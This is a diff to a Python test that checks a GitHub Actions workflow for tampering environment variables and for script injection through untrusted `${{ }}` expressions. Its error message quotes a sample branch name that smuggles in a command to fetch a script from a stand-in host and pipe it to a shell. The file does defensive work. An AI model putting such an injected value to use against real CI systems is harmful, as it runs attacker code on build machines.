@@ -23,8 +23,21 @@ from action_pins import RELEASES, tags
 ROOT = Path(__file__).resolve().parents[2]
 WORKFLOW = ROOT / ".github" / "workflows" / "ci.yml"
 # Variables that change what pytest, mypy or ruff check, or which programs run.
-TAMPERING_VARIABLE = re.compile(r"PYTEST_\w+|MYPY\w*|RUFF_\w+|PATH|PYTHONPATH")
-HARMLESS_VARIABLES = {"MYPY_FORCE_COLOR", "RUFF_OUTPUT_FORMAT", "RUFF_NO_CACHE"}
+TAMPERING_VARIABLE = re.compile(
+    r"PYTEST_\w+|MYPY\w*|RUFF_\w+|HADOLINT_\w+|PATH|PYTHONPATH|PIP_\w+|UV_\w+"
+)
+HARMLESS_VARIABLES = {
+    "MYPY_FORCE_COLOR", "RUFF_OUTPUT_FORMAT", "RUFF_NO_CACHE",
+    "PIP_DISABLE_PIP_VERSION_CHECK", "PIP_NO_COLOR", "PIP_PROGRESS_BAR",
+    "UV_NO_PROGRESS", "UV_CACHE_DIR",
+}  # fmt: skip
+# Expressions a `run:` script may hold: values the repository or GitHub chooses,
+# never one a user who pushes a branch or opens a pull request could write.
+TRUSTED_EXPRESSION = re.compile(
+    r"(?:matrix|runner|strategy)\.[\w.-]+"
+    r"|github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id"
+    r"|repository_owner|event_name|workflow|job|workspace|server_url|api_url)"
+)
 
 
 # The workflow, read as GitHub reads it.
@@ -346,6 +359,8 @@ class Run:
     """The program and its arguments, wrappers and variables left out."""
     why_not: str
     writes: list[str]
+    words: tuple[str, ...] = ()
+    """The command as written, wrappers and all."""
 
 
 def job_problem(name: str) -> str:
@@ -388,12 +403,42 @@ def step_problem(step: dict[str, Any]) -> str:
     return variables_problem(step.get("env"), "its step")
 
 
+def untrusted_expressions(script: str) -> list[str]:
+    """The ``${{ ... }}`` of a script that name a value a user could choose."""
+    found = []
+    for expression in re.findall(r"\$\{\{(.*?)\}\}", script, re.DOTALL):
+        bare = re.sub(r"'[^']*'", "", expression)
+        names = [
+            match[1]
+            for match in re.finditer(
+                r"([A-Za-z_][\w-]*(?:\.[\w*-]+|\[[^]]*\])*)(\s*\()?", bare
+            )
+            if not match[2] and match[1] not in {"true", "false", "null"}
+        ]
+        if any(not TRUSTED_EXPRESSION.fullmatch(n) for n in names):
+            found.append("${{" + expression + "}}")
+    return found
+
+
+def assert_no_injection(where: str, script: str) -> None:
+    """A script holds no expression GitHub would paste into its code unquoted."""
+    untrusted = untrusted_expressions(script)
+    assert not untrusted, (
+        f"{where}: the script holds `{untrusted[0].strip()}`. GitHub pastes its "
+        "value into the code before bash runs it, so a branch name or a pull "
+        'request title such as `x";curl evil.example|sh;"` would run as a command '
+        "(script injection). Pass the value through the step's `env:` (`env: "
+        '{HEAD_REF: ${{ github.head_ref }}}`) and use "$HEAD_REF" in the script'
+    )
+
+
 def runs(name: str) -> list[Run]:
     """Every command the ``run:`` steps of a job run, in order."""
     found: list[Run] = []
     for index, step in enumerate(steps(job(name))):
         if "run" not in step:
             continue
+        assert_no_injection(f"{name}: step {index + 1}", str(step["run"]))
         try:
             script = commands(str(step["run"]))
         except ValueError as error:
@@ -411,7 +456,7 @@ def runs(name: str) -> list[Run]:
                 why = why or variables_problem(
                     [variable.partition("=")[0]], "the command"
                 )
-            found.append(Run(index, argv, why, command.writes))
+            found.append(Run(index, argv, why, command.writes, tuple(words[count:])))
     return found
 
 
@@ -491,7 +536,7 @@ def runs_of(name: str, tool: Tool) -> list[Run]:
     for run in runs(name):
         argv = docker_build(run.argv)
         if argv[: len(program)] == program:
-            found.append(Run(run.step, argv, run.why_not, run.writes))
+            found.append(Run(run.step, argv, run.why_not, run.writes, run.words))
     return found
 
 
